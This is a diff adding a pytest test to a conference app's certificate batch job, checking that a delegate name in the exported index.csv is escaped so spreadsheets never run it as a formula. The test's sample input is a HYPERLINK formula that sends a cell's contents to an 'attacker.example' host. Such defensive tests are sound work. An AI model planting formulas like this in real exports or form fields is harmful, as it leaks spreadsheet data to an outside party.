@@ -1,5 +1,6 @@
 """Batches through the one job lifecycle (jobs/): progress, idempotent attempts, the ZIP, one per kind at a time."""
 
+import csv
 import datetime
 import io
 import time
@@ -190,3 +191,15 @@ def test_the_secretariat_generates_certificates_from_the_staff_page_and_download
     assert len(archive.namelist()) == 4
     page = client.get(reverse("documents:workshop", args=[world["workshop"].slug])).content.decode()
     assert "Claire Martin" in page
+
+
+def test_the_index_of_the_zip_never_runs_a_holders_name_as_a_formula(world):
+    # A delegate's name as typed in the registration form, opened by the staff in a spreadsheet.
+    formula = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'
+    Registration.objects.filter(pk=world["claire"].pk).update(participant_name=formula)
+    batch = _run(world)
+    assert batch.status == BatchStatus.READY, batch.error
+    rows = list(csv.reader(io.StringIO(_zip(batch).read("index.csv").decode("utf-8-sig"))))
+    holders = [row[1] for row in rows[1:]]
+    assert "'" + formula in holders
+    assert not any(cell[:1] in ("=", "+", "-", "@") for row in rows for cell in row)
